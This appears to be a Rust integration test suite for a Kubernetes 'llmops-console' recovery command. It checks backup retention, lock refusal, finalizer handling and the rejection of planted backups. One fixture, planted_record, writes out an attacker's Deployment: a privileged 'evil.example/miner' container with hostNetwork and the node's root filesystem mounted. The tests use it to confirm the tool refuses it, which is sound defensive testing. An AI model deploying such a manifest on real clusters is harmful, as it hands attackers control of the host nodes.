//! Issue 8, items 1, 2, 3 and 13: recovery and the trust of backups, against the real binary and
//! the simulator.
//!
//! 1. A recovery refused by the lock leaves the backup and the record as they were; a backup
//!    goes only once the endpoint is verified, or on `recover OP --discard` (confirmed).
//! 2. A backup ConfigMap planted by anyone who may create ConfigMaps is labelled as found only
//!    in the cluster, shown before anything happens, never acted on without confirmation, and
//!    never makes a recovery touch objects outside the endpoint it names.
//! 3. Resuming a redeploy of an InferenceService stuck behind its finalizer with `--finalizers
//!    never` refuses before deleting anything (the children still serve); with `strip` it ends.
//! 13. A journal record of another cluster is not listed as unfinished here.

mod common;
mod orchestrator;

use serde_json::{Value, json};

use orchestrator::cluster::{Cluster, K};
use orchestrator::console::{Console, Run};
use orchestrator::endpoint::{Ep, SpecIs};
use orchestrator::{DEADLINE, scenario};

const NEW_IMAGE: &str = "ghcr.io/llmops/fast-server:2.0.0";

fn ep() -> Ep {
    Ep::raw("orch", "ep")
}

/// `recover --list -o json` rows (optionally with more arguments).
fn listed(con: &Console, extra: &[&str]) -> (Run, Vec<Value>) {
    let mut args = vec!["recover", "--list", "-o", "json"];
    args.extend_from_slice(extra);
    let run = con.run(&args, DEADLINE);
    run.expect_code(0);
    let rows = run.result().as_array().cloned().unwrap_or_default();
    (run, rows)
}

fn ids(rows: &[Value]) -> Vec<String> {
    rows.iter()
        .filter_map(|r| r["id"].as_str().map(str::to_string))
        .collect()
}

/// Starts `redeploy ARGS -o json`, kills it with -9 once `verify-deletion` runs; its op id.
fn kill_in_verify_deletion(con: &Console, args: &[&str]) -> String {
    let mut all = vec!["redeploy"];
    all.extend_from_slice(args);
    all.extend_from_slice(&["--yes", "-o", "json"]);
    let mut running = con.spawn(&all);
    let line = running
        .wait_step("verify-deletion", DEADLINE)
        .unwrap_or_else(|| {
            panic!(
                "the redeploy ended before verify-deletion:\n{}",
                running.stderr()
            )
        });
    running.kill9();
    serde_json::from_str::<Value>(&line).expect("JSON progress")["op_id"]
        .as_str()
        .expect("op_id")
        .to_string()
}

/// Mutating requests by admin since `seq` (SelfSubjectAccessReviews are questions, not writes).
fn writes_since(c: &Cluster, seq: u64) -> Vec<String> {
    let (audit, _) = c.audit_since(seq);
    audit
        .iter()
        .filter(|e| e["user"] == "admin" && common::audit::is_mutating(e))
        .map(common::audit::audit_line)
        .collect()
}

fn backup_op(c: &Cluster, ns: &str, name: &str) -> Option<String> {
    c.backup(ns, name).map(|cm| {
        cm["metadata"]["annotations"]["llmops.io/operation-id"]
            .as_str()
            .unwrap_or("")
            .to_string()
    })
}

/// Now as a Kubernetes MicroTime.
fn micro_now() -> String {
    jiff::Timestamp::now()
        .strftime("%Y-%m-%dT%H:%M:%S%.6fZ")
        .to_string()
}

/// Item 1: a lease held by another host refuses the resume (exit 3) and the backup, the record
/// and the listing stay; once the lease is gone the same command works. `--discard` needs
/// confirmation (exit 2 without) and then removes the backup and marks the record discarded.
#[test]
fn a_recovery_refused_by_the_lock_keeps_the_backup_and_discard_is_confirmed() {
    let c = Cluster::start(&scenario("trust"));
    let con = Console::new(&c);
    let before = ep().wait_ready(&c, DEADLINE);
    let op = kill_in_verify_deletion(&con, &["orch/ep", "--set", &format!("image={NEW_IMAGE}")]);
    assert_eq!(backup_op(&c, "orch", "ep").as_deref(), Some(op.as_str()));

    // Another host takes the lock (as a force-delete elsewhere would): live for an hour.
    let mut lease = c.lease("orch", "ep").expect("the killed run's lease");
    lease["spec"]["holderIdentity"] = json!("intruder@elsewhere/4242");
    lease["spec"]["renewTime"] = json!(micro_now());
    lease["spec"]["acquireTime"] = json!(micro_now());
    lease["spec"]["leaseDurationSeconds"] = json!(3600);
    lease["metadata"]["annotations"]["llmops.io/operation-id"] = json!("force-delete-ep-other-1");
    c.replace(K::Lease, "orch", "llmops-console-ep", &lease);

    let refused = con.run(
        &["recover", &op, "--resume", "--yes", "-o", "json"],
        DEADLINE,
    );
    refused.expect_code(3);
    refused.expect_text("intruder@elsewhere/4242");
    assert_eq!(
        backup_op(&c, "orch", "ep").as_deref(),
        Some(op.as_str()),
        "the refused recovery removed the backup\n{}",
        refused.explain()
    );
    let state = con.journal(&op)["state"].as_str().unwrap_or("").to_string();
    assert!(
        matches!(state.as_str(), "running" | "needs-recovery"),
        "the refused recovery recorded the operation as {state}\n{}",
        refused.explain()
    );
    let (list, rows) = listed(&con, &[]);
    assert!(
        ids(&rows).contains(&op),
        "not listed after the refusal:\n{}",
        list.explain()
    );

    c.delete(K::Lease, "orch", "llmops-console-ep");
    let resumed = con.run(
        &["recover", &op, "--resume", "--yes", "-o", "json"],
        DEADLINE,
    );
    resumed.expect_code(0);
    let after = ep()
        .ready(&c)
        .unwrap_or_else(|why| panic!("not Ready: {why}\n{}", resumed.explain()));
    assert_eq!(after.spec_is(&before, "ep", NEW_IMAGE), SpecIs::New);
    assert!(
        c.backup("orch", "ep").is_none(),
        "backup left after the verified resume"
    );
    assert_eq!(con.journal(&op)["state"], "succeeded");

    // A second interrupted run, discarded.
    let op2 = kill_in_verify_deletion(&con, &["orch/ep"]);
    let unconfirmed = con.run(&["recover", &op2, "--discard"], DEADLINE);
    unconfirmed.expect_code(2);
    unconfirmed.expect_text("--yes");
    assert_eq!(backup_op(&c, "orch", "ep").as_deref(), Some(op2.as_str()));
    let discarded = con.run(&["recover", &op2, "--discard", "--yes"], DEADLINE);
    discarded.expect_code(0);
    assert!(
        c.backup("orch", "ep").is_none(),
        "backup still there after --discard --yes\n{}",
        discarded.explain()
    );
    assert_eq!(con.journal(&op2)["state"], "discarded");
    let (_, rows) = listed(&con, &[]);
    assert!(
        !ids(&rows).contains(&op2),
        "a discarded operation is still listed"
    );
}

/// A record as an attacker would write it into a planted backup ConfigMap.
fn planted_record(c: &Cluster, id: &str, endpoint_ns: &str, endpoint: &str) -> Value {
    let uid = |k: K, ns: &str, n: &str| c.get(k, ns, n).expect("object")["metadata"]["uid"].clone();
    let evil = json!({
        "apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": "evil", "labels": {"app": "evil"}},
        "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "evil"}},
                 "template": {"metadata": {"labels": {"app": "evil"}},
                              "spec": {"hostNetwork": true,
                                       "volumes": [{"name": "root", "hostPath": {"path": "/"}}],
                                       "containers": [{"name": "x", "image": "evil.example/miner:1",
                                                       "securityContext": {"privileged": true}}]}}}
    });
    json!({
        "id": id, "kind": "redeploy",
        "endpoint": {"namespace": endpoint_ns, "name": endpoint, "mode": "Raw"},
        "holder": "ops@trusted-host/1", "context": "prod", "server": "https://prod.example:6443",
        "started": "2026-12-01T00:00:00Z", "updated": "2026-12-01T00:00:05Z",
        "state": "running", "step": "verify-deletion",
        "backup": [evil.clone()], "decided": [evil],
        "old_objects": [
            {"kind": "Deployment", "namespace": "other", "name": "victim",
             "uid": uid(K::Deployment, "other", "victim")},
            {"kind": "Deployment", "namespace": "orch", "name": "victim",
             "uid": uid(K::Deployment, "orch", "victim")},
            {"kind": "Service", "namespace": "orch", "name": "victim",
             "uid": uid(K::Service, "orch", "victim")},
        ],
    })
}

fn plant(c: &Cluster, ns: &str, cm_name: &str, rec: &Value) {
    let cm = json!({
        "apiVersion": "v1", "kind": "ConfigMap",
        "metadata": {"name": cm_name, "namespace": ns,
                     "labels": {"app.kubernetes.io/managed-by": "llmops-console",
                                "llmops.io/endpoint": rec["endpoint"]["name"]},
                     "annotations": {"llmops.io/operation-id": rec["id"]}},
        "data": {"operation.json": rec.to_string()},
    });
    c.create(K::ConfigMap, ns, &cm);
}

/// Item 2: a planted backup is labelled, shown, refused without confirmation (exit 2, no write
/// at all), and with `--yes` refused for its foreign manifest without touching anything.
#[test]
fn a_planted_backup_is_labelled_and_never_touches_other_endpoints() {
    let c = Cluster::start(&scenario("trust"));
    let con = Console::new(&c);
    let victims = [Ep::raw("orch", "victim"), Ep::raw("other", "victim")];
    let mut before = Vec::new();
    for v in victims.iter().chain([&ep()]) {
        before.push(v.wait_ready(&c, DEADLINE).uids());
    }
    let op = "redeploy-ep-20261201T000000000Z-4242";
    plant(
        &c,
        "orch",
        "llmops-console-backup-ep",
        &planted_record(&c, op, "orch", "ep"),
    );
    // One more, in orch, speaking for an endpoint of namespace other.
    let op3 = "redeploy-victim-20261201T000000000Z-4243";
    plant(
        &c,
        "orch",
        "llmops-console-backup-victim",
        &planted_record(&c, op3, "other", "victim"),
    );

    let (list, rows) = listed(&con, &[]);
    let row = rows
        .iter()
        .find(|r| r["id"] == op)
        .unwrap_or_else(|| panic!("the planted backup is not listed:\n{}", list.explain()));
    assert_eq!(row["foundIn"], "cluster", "{row:#}");
    assert_eq!(row["verified"], false, "{row:#}");
    let note = row["note"].as_str().unwrap_or("");
    assert!(
        note.contains("found only in the cluster (ConfigMap orch/llmops-console-backup-ep)")
            && note.contains("ops@trusted-host/1")
            && note.contains("unverified"),
        "{note}"
    );
    let text = con.run(&["recover", "--list"], DEADLINE);
    text.expect_code(0)
        .expect_text("found only in the cluster (ConfigMap orch/llmops-console-backup-ep)");

    let seq = c.audit_seq();
    let unconfirmed = con.run(&["recover", op, "--resume"], DEADLINE);
    unconfirmed.expect_code(2);
    // The plan was shown first: its source, its foreign manifest, its dangers.
    for t in [
        "found only in the cluster",
        "Deployment evil",
        "privileged",
        "hostNetwork",
        "--yes",
    ] {
        unconfirmed.expect_text(t);
    }
    let writes = writes_since(&c, seq);
    assert!(
        writes.is_empty(),
        "writes without confirmation: {writes:#?}"
    );
    common::shout(&format!(
        "the plan of a planted backup, as `recover OP --resume` shows it:\n{}",
        unconfirmed.stderr
    ));

    let seq = c.audit_seq();
    let confirmed = con.run(&["recover", op, "--resume", "--yes"], DEADLINE);
    confirmed.expect_code(1);
    confirmed
        .expect_text("manifest Deployment evil")
        .expect_text("not an object of endpoint orch/ep");
    let misplaced = con.run(&["recover", op3, "--resume", "--yes"], DEADLINE);
    misplaced.expect_code(1);
    misplaced.expect_text("lives in namespace orch but claims endpoint other/victim");
    let writes = writes_since(&c, seq);
    assert!(
        writes.is_empty(),
        "a planted backup made the recovery write: {writes:#?}\n{}\n{}",
        confirmed.explain(),
        misplaced.explain()
    );
    for (v, uids) in victims.iter().chain([&ep()]).zip(&before) {
        let now = v
            .ready(&c)
            .unwrap_or_else(|why| panic!("{} not Ready: {why}", v.arg()));
        assert_eq!(&now.uids(), uids, "{} was touched", v.arg());
    }
    assert!(c.get(K::Deployment, "orch", "evil").is_none());
}

/// Item 3: the redeploy of the InferenceService stuck behind `inferenceservice.finalizers` is
/// killed in verify-deletion (its children still serve); `recover --resume --finalizers never`
/// refuses before any write, naming the finalizer and the command that works, which then does.
#[test]
fn resume_with_finalizers_never_leaves_a_stuck_but_serving_endpoint_alone() {
    let c = Cluster::start("stuck-finalizer");
    let con = Console::new(&c);
    let ep = Ep::kserve("llm-prod", "llama-3-70b-instruct");
    // Strip, but only after an hour: the kill comes while it still waits.
    let op = kill_in_verify_deletion(
        &con,
        &[&ep.arg(), "--finalizers", "strip", "--timeout", "1h"],
    );
    let children: Vec<(K, String)> = ep
        .objects()
        .into_iter()
        .filter(|(k, _)| *k != K::InferenceService)
        .collect();
    let serving: Vec<Value> = children
        .iter()
        .map(|(k, n)| {
            c.get(*k, &ep.ns, n)
                .unwrap_or_else(|| panic!("{} {n} gone already", k.kind()))
        })
        .collect();

    let seq = c.audit_seq();
    let never = con.run(
        &[
            "recover",
            &op,
            "--resume",
            "--yes",
            "--finalizers",
            "never",
            "-o",
            "json",
        ],
        DEADLINE,
    );
    never.expect_code(1);
    common::shout(&format!(
        "resume of a stuck-but-serving endpoint with --finalizers never:\n{}",
        never.stderr
    ));
    never
        .expect_text("inferenceservice.finalizers")
        .expect_text(&format!(
            "llmops-console recover {op} --resume --finalizers strip"
        ));
    let writes = writes_since(&c, seq);
    assert!(
        writes
            .iter()
            .all(|w| !w.contains(" delete ") && !w.contains(" patch ")),
        "resume with --finalizers never deleted or patched: {writes:#?}\n{}",
        never.explain()
    );
    for ((k, n), old) in children.iter().zip(&serving) {
        let now = c
            .get(*k, &ep.ns, n)
            .unwrap_or_else(|| panic!("{} {n} was deleted\n{}", k.kind(), never.explain()));
        assert_eq!(now["metadata"]["uid"], old["metadata"]["uid"]);
        assert!(
            now["metadata"]["deletionTimestamp"].is_null(),
            "{} {n} Terminating",
            k.kind()
        );
    }
    assert_eq!(
        backup_op(&c, &ep.ns, &ep.name).as_deref(),
        Some(op.as_str())
    );
    assert!(matches!(
        con.journal(&op)["state"].as_str(),
        Some("running" | "needs-recovery")
    ));

    let strip = con.run(
        &[
            "recover",
            &op,
            "--resume",
            "--yes",
            "--finalizers",
            "strip",
            "-o",
            "json",
        ],
        DEADLINE,
    );
    strip.expect_code(0);
    ep.ready(&c)
        .unwrap_or_else(|why| panic!("not Ready: {why}\n{}", strip.explain()));
    assert!(c.backup(&ep.ns, &ep.name).is_none(), "backup left behind");
}

/// A journal record with `server` (and optionally a cluster identity).
fn record_file(con: &Console, id: &str, server: &str, cluster_uid: Option<&str>) {
    let mut rec = json!({
        "id": id, "kind": "redeploy",
        "endpoint": {"namespace": "orch", "name": "ep", "mode": "Raw"},
        "holder": "orch-tester@host/1", "context": "demo", "server": server,
        "started": "2026-12-01T00:00:00Z", "updated": "2026-12-01T00:00:05Z",
        "state": "running", "step": "delete", "backup": [], "old_objects": [],
    });
    if let Some(u) = cluster_uid {
        rec["cluster_uid"] = json!(u);
    }
    std::fs::create_dir_all(con.journal_dir()).expect("journal dir");
    std::fs::write(
        con.journal_dir().join(format!("{id}.json")),
        serde_json::to_string_pretty(&rec).expect("json"),
    )
    .expect("write record");
}

/// Item 13: records of another server, or of another cluster at this server's address, are not
/// listed (a note counts them; `--all-clusters` shows them); this cluster's are.
#[test]
fn journals_of_other_clusters_are_not_listed_as_unfinished_here() {
    let c = Cluster::start(&scenario("trust"));
    let con = Console::new(&c);
    let here = "redeploy-ep-20261201T000000000Z-1";
    let elsewhere = "redeploy-ep-20261201T000000000Z-2";
    let recreated = "redeploy-ep-20261201T000000000Z-3";
    record_file(&con, here, &c.sim.url, None);
    record_file(&con, elsewhere, "http://127.0.0.1:1", None);
    record_file(
        &con,
        recreated,
        &c.sim.url,
        Some("00000000-0000-4000-8000-000000000000"),
    );
    let (list, rows) = listed(&con, &[]);
    assert_eq!(ids(&rows), vec![here.to_string()], "{}", list.explain());
    list.expect_text("2 unfinished operation(s) recorded against other clusters are not shown");
    list.expect_text("--all-clusters");
    let (all, rows) = listed(&con, &["--all-clusters"]);
    let mut got = ids(&rows);
    got.sort();
    assert_eq!(got, vec![here, elsewhere, recreated], "{}", all.explain());
    assert!(
        rows.iter()
            .any(|r| r["id"] == elsewhere && r["thisCluster"] == false)
    );
    let other = con.run(&["recover", elsewhere, "--resume", "--yes"], DEADLINE);
    other.expect_code(2);
    other.expect_text("ran against http://127.0.0.1:1");
}

/// Item 1, the exception: a redeploy cancelled right after writing its own backup, before any
/// delete, removes that backup (the endpoint is exactly as backed up; a backup left behind
/// would only block the next redeploy). The backup write is slowed so the Ctrl-C lands in it.
#[test]
fn a_redeploy_cancelled_before_deleting_removes_its_own_backup() {
    let c = Cluster::start(&scenario("trust"));
    let con = Console::new(&c);
    let before = ep().wait_ready(&c, DEADLINE);
    c.admin(
        reqwest::Method::POST,
        "faults/latency",
        Some(json!({"verb": "create", "resource": "configmaps", "ms": 2000})),
    );
    let mut running = con.spawn(&["redeploy", "orch/ep", "--yes", "-o", "json"]);
    running.wait_line(DEADLINE, |l| l.contains("manifests written to journal"));
    running.sigint();
    let run = running.finish(DEADLINE);
    run.expect_code(1);
    assert_eq!(run.result()["result"], "cancelled", "{}", run.explain());
    let op = run.result()["op_id"].as_str().expect("op_id").to_string();
    assert!(
        run.progress("delete", "running").is_empty(),
        "the cancel came too late to test this: deletion started\n{}",
        run.explain()
    );
    assert!(
        c.backup("orch", "ep").is_none(),
        "the cancelled redeploy left its backup behind\n{}",
        run.explain()
    );
    assert_eq!(con.journal(&op)["state"], "cancelled");
    assert_eq!(ep().ready(&c).expect("Ready").uids(), before.uids());
}

/// Item 1: a redeploy cancelled during verify-ready leaves the new spec unverified, so its
/// backup stays and the operation is listed (needs-recovery); `recover --resume` verifies it and
/// only then removes the backup.
#[test]
fn a_backup_stays_until_the_endpoint_is_verified() {
    let c = Cluster::start(&scenario("trust"));
    let con = Console::new(&c);
    let before = ep().wait_ready(&c, DEADLINE);
    let image = format!("image={NEW_IMAGE}");
    let mut running = con.spawn(&[
        "redeploy", "orch/ep", "--yes", "--set", &image, "-o", "json",
    ]);
    assert!(running.wait_step("verify-deletion", DEADLINE).is_some());
    // No new pods: verify-ready cannot end before the Ctrl-C.
    c.controller("deployment", "down");
    assert!(
        running.wait_step("verify-ready", DEADLINE).is_some(),
        "{}",
        running.stderr()
    );
    running.sigint();
    let run = running.finish(DEADLINE);
    run.expect_code(1);
    let op = run.result()["op_id"].as_str().expect("op_id").to_string();
    assert_eq!(
        backup_op(&c, "orch", "ep").as_deref(),
        Some(op.as_str()),
        "the backup went although the new spec was never verified\n{}",
        run.explain()
    );
    assert_eq!(con.journal(&op)["state"], "needs-recovery");
    run.expect_text(&format!("llmops-console recover {op} --resume"));
    let (list, rows) = listed(&con, &[]);
    assert!(ids(&rows).contains(&op), "{}", list.explain());
    c.controller("deployment", "up");
    let resumed = con.run(
        &["recover", &op, "--resume", "--yes", "-o", "json"],
        DEADLINE,
    );
    resumed.expect_code(0);
    let after = ep()
        .ready(&c)
        .unwrap_or_else(|why| panic!("not Ready: {why}\n{}", resumed.explain()));
    assert_eq!(after.spec_is(&before, "ep", NEW_IMAGE), SpecIs::New);
    assert!(
        c.backup("orch", "ep").is_none(),
        "backup left after verification"
    );
}
